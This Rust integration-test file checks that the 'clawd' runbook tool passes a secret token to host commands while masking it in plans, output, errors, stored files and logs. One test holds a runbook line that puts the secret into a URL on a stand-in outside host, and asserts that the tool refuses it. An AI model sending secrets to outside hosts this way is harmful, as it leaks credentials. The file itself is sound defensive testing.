//! A secret reaches the command that needs it, and nobody who looks.

use std::path::Path;

use clawd_integration_tests::{Host, Lab};

use crate::people::{Office, assert_says, step};

/// Long enough to be cut wherever text is cut short, with all that quoting could change.
fn secret() -> String {
    let long: String = (0..40).map(|n| format!("{n:02}Kq")).collect();
    format!("it's \"half\" \\ {long}")
}

const USE: &str = r#"
      - id: use
        uses: shell@v1
        with:
          argv: [sh, -c, 'printf %s "$1" >/root/got; cat; echo "got $1"; echo "err $1" >&2', sh, "${{ secrets.TOKEN }}"]
          stdin: "first ${{ secrets.TOKEN }} last\n"
      - id: write
        uses: file.write@v1
        with: {path: /root/token, content: "token=${{ secrets.TOKEN }}\n", mode: "0600"}
      - id: fail
        uses: shell@v1
        with: {argv: [sh, -c, 'printf "%s" "no: $1" >&2; exit 3', sh, "${{ secrets.TOKEN }}"]}
"#;

/// No piece of it that could be recognised.
#[track_caller]
fn assert_tells_nothing(what: &str, shown: &[u8]) {
    let secret = secret();
    for piece in secret.as_bytes().windows(9) {
        let found = shown.windows(piece.len()).any(|window| window == piece);
        assert!(
            !found,
            "`{}` of the secret in {what}",
            String::from_utf8_lossy(piece)
        );
    }
}

fn files(folder: &Path, each: &mut impl FnMut(&Path)) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            files(&path, each);
        } else {
            each(&path);
        }
    }
}

#[tokio::test]
async fn a_secret_is_used_on_the_host_and_told_to_nobody() {
    let lab = Lab::start().await.unwrap();
    let host = Host::boot(&lab, "web-1").await.unwrap();
    let office = Office::open().await;
    office.add(&host, "staging").await;
    let folder = office.clawd.data_dir().join("secrets/main");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("TOKEN"), format!("{}\n", secret())).unwrap();
    office.publish("use", USE).await;

    let plan = office.cli("ana", &["plan", "use"]).await.expect_code(2).unwrap();
    assert_says(&plan.stdout, &["[secret]"]);
    assert_tells_nothing("the plan", plan.stdout.as_bytes());
    let run = office.start(&["use"]).await;
    let (watched, view) = office.until_it_is_over(&run).await;
    assert_tells_nothing("what watching shows", watched.stdout.as_bytes());
    watched.expect_code(3).unwrap();
    assert_eq!(host.read("/root/got").await.unwrap(), secret());
    assert_eq!(
        host.read("/root/token").await.unwrap(),
        format!("token={}\n", secret())
    );
    assert_eq!(
        step(&view, "work/web-1/use")["output"]["stdout"],
        "first [secret] last\ngot [secret]\n"
    );
    assert_says(
        step(&view, "work/web-1/fail")["error"]["message"]
            .as_str()
            .unwrap(),
        &["`sh` ended with exit code 3: no: [secret]"],
    );
    assert_eq!(
        office.output(&run, "work/web-1/use").await,
        "first [secret] last\ngot [secret]\n"
    );
    assert_tells_nothing("the run", view.to_string().as_bytes());

    let export = office.clawd.data_dir().join("audit.jsonl");
    office
        .cli("ben", &["audit", "export", &export.to_string_lossy()])
        .await
        .ok()
        .unwrap();
    // Journal, plans, output, audit log: whatever the server has stored but for the secret itself.
    let mut looked_at = Vec::new();
    files(office.clawd.data_dir(), &mut |path| {
        if !path.starts_with(&folder) {
            assert_tells_nothing(&path.display().to_string(), &std::fs::read(path).unwrap());
            looked_at.push(path.to_owned());
        }
    });
    assert!(looked_at.contains(&export), "{looked_at:?}");
    assert!(looked_at.len() > 2, "{looked_at:?}");
    assert_tells_nothing("the log of the process", office.clawd.log().as_bytes());
}

#[tokio::test]
async fn a_runbook_that_would_send_a_secret_away_is_refused() {
    let office = Office::open().await;
    let file = office.clawd.data_dir().join("away.yaml");
    let url = "https://elsewhere.example/?k=${{ secrets.TOKEN }}";
    let runbook = format!(
        "apiVersion: clawd.dev/v1\nkind: Runbook\nmetadata: {{name: away}}\njobs:\n  work:\n    targets: controller\n    \
         steps: [{{uses: check.http@v1, with: {{url: \"{url}\"}}}}]\n"
    );
    std::fs::write(&file, runbook).unwrap();
    let refused = office
        .cli("ana", &["runbook", "publish", &file.to_string_lossy()])
        .await
        .expect_code(1)
        .unwrap();
    assert_says(
        &refused.stderr,
        &["RB063", "`check.http@v1` takes no secret in `url`"],
    );
}
